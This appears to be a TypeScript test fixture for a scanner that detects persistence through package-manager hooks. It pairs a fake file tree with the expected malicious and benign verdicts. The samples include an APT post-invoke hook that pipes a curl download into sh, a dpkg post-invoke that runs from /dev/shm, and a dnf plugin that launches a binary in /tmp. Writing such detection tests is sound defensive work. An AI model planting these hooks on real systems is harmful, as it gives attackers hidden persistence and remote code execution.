import type { Pair } from './pair.ts';

export const pair: Pair = {
  tree: {
    '/etc/apt/apt.conf.d/99update': 'APT::Update::Post-Invoke { "curl -s http://203.0.113.5/u | sh"; };\n',
    '/etc/apt/apt.conf.d/docker-clean':
      'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n',
    '/etc/dpkg/dpkg.cfg': 'no-debsig\npost-invoke=/dev/shm/.d/x\n',
    '/usr/lib/python3.9/site-packages/dnf-plugins/z.py': 'import os\nos.system("/tmp/.z/z &")\n',
    '/etc/yum/pluginconf.d/fast.conf': '[main]\nenabled=1\n',
  },
  blamed: [
    {
      path: '/etc/apt/apt.conf.d/99update',
      line: 1,
      verdict: 'malicious',
      code: 'fetch-pipe-shell',
      attack: 'T1546.016',
    },
    { path: '/etc/dpkg/dpkg.cfg', line: 2, verdict: 'malicious', code: 'temp-folder', attack: 'T1546.016' },
    {
      path: '/usr/lib/python3.9/site-packages/dnf-plugins/z.py',
      line: 2,
      verdict: 'malicious',
      code: 'python-runs',
      attack: 'T1546.016',
    },
  ],
  passed: ['docker-clean', 'fast.conf'],
};
